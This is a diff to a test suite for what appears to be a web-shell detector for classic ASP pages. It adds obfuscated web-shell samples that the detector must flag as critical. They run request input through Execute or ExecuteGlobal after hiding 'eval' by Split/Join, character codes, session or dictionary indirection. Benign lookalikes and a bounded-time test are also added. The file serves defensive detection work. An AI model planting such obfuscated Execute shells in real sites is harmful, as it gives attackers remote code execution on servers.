@@ -90,6 +90,30 @@ describe('classic ASP', () => {
       'Execute of a field in a server script element',
       '<html><script language="VBScript" runat="server">\nExecute Request("c")\n</script></html>',
     ],
+    [
+      'Execute of code joined from "e!v!a!l$request$x" by Split and Join',
+      '<%\nf = "e!v!a!l$request$p!a!s!s" \' config\nparts = Split(f, "$")\na = Join(Split(parts(0), "!"), "")\nk = Join(Split(parts(2), "!"), "")\ns = a & "(" & parts(1) & "(""" & k & """))"\nExecute(s)\n%>',
+    ],
+    [
+      'Execute of code spelt as an array of character codes, joined in a loop',
+      '<%\ncodes = Array(101, 118, 97, 108, 40, 114, 101, 113, 117, 101, 115, 116, 40, 34, 120, 34, 41, 41)\ns = ""\nFor i = 0 To UBound(codes)\n  s = s & Chr(codes(i))\nNext\nExecute(s)\n%>',
+    ],
+    [
+      'Execute on the line after a comment that ends a sentence',
+      '<%\nv = Request("k")\n\' applies the formatting rule.\nExecute(fmt(v))\n%>',
+    ],
+    [
+      'Execute of code whose name is set twice, one of its texts running the request',
+      '<% a = "ev" & "al"\nr = "reque" & "st"\nIf x Then r = "Respo" & "nse.Write"\nExecute a & "(" & r & "(""x""))"\nid = Request("id") %>',
+    ],
+    [
+      'Execute of a dictionary entry filled from the session the request filled',
+      '<%\nk = "payload"\nd = Request.Form("p")\nSession(k) = d\nSet dict = CreateObject("Scripting.Dictionary")\ndict.Add k, Session(k)\nExecute(dict(k))\n%>',
+    ],
+    [
+      'ExecuteGlobal of code kept in a string that reads a name filled from the request',
+      '<%\nv = request("p")\nc = "Ex" & "ecute" & "(v)"\nExecuteGlobal(c)\n%>',
+    ],
   ])('calls %s a web shell', (_, text) => {
     expect(judge('/opt/x.asp', text)).toMatchObject({
       severity: 'critical',
@@ -144,8 +168,20 @@ describe('classic ASP', () => {
       '<% action = Request("a")\nprefix = "Call Show"\ncode = prefix & "List()"\nExecute(code)\nExecute("Call " & "Page" & "Header()") %>',
     ],
     [
-      'a page running code through a name set twice (not one known text)',
-      '<% a = "ev" & "al"\nr = "reque" & "st"\nIf x Then r = "Respo" & "nse.Write"\nExecute a & "(" & r & "(""x""))"\nid = Request("id") %>',
+      'a dictionary holding a field and code of its own, running its own',
+      '<% Set d = CreateObject("Scripting.Dictionary")\nd.Add "t", Request("t")\nd.Add "code", "Call Header()"\nExecute(d("code"))\nResponse.Write Server.HTMLEncode(d("t")) %>',
+    ],
+    [
+      'a function that runs its own parameter, named like a global filled from the request',
+      '<% s = Request("s")\nFunction GetSetting(s)\n  Execute("x=" & s)\n  GetSetting = x\nEnd Function\nv = GetSetting("ZC_NAME") %>',
+    ],
+    [
+      'code assembled from a string whose text is a name filled from the request',
+      '<% s = Request("s")\nExecute("s" & plugname & "=s" & plugname & "&""|""") %>',
+    ],
+    [
+      'a page running code through a name set twice, neither text reading the request',
+      '<% a = "Call " & "Show"\nr = "List"\nIf x Then r = "Grid"\nExecute a & r & "()"\nid = Request("id") %>',
     ],
     [
       'a page calling a stored procedure with EXECUTE in its SQL text',
@@ -180,6 +216,25 @@ describe('classic ASP', () => {
       reason: expect.stringMatching(/Script Encoder/),
     });
   });
+
+  it('works out assembled code in bounded time: names set to many names, deep nesting', () => {
+    // Each name set four times to an expression of 39 names (an assignment's 200 characters),
+    // four names deep, the last set to an empty string: every name resolves, and stays short.
+    const name = (level: number, k: number) => `${'abcd'[level]}${k}`;
+    const names = (level: number) =>
+      Array.from({ length: 39 }, (_, i) => name(level + 1, i % 4)).join(' & ');
+    const lines = [0, 1, 2, 3].flatMap((level) =>
+      [0, 1, 2, 3].flatMap((k) =>
+        [0, 1, 2, 3].map(() => `${name(level, k)} = ${level === 3 ? '""' : names(level)}`),
+      ),
+    );
+    const wide = `<%\n${lines.join('\n')}\nExecute(a0)\nv = Request("k") %>`;
+    const deep = `<% s = ${'('.repeat(1500)}"a"${')'.repeat(1500)}\nExecute(s) %>`;
+    // Unbounded, the wide page reads 156^3 terms (25 s here). The timeout guards against a
+    // run without end; it is no speed goal: bounded, this takes milliseconds.
+    for (const text of [wide, deep])
+      expect(judge('/opt/x.asp', text)?.severity).not.toBe('critical');
+  }, 10_000);
 
   it('decodes hostile blocks in bounded time: cut, empty, many', () => {
     expect(decodeEncodedScripts('#@~^')).toBe('');
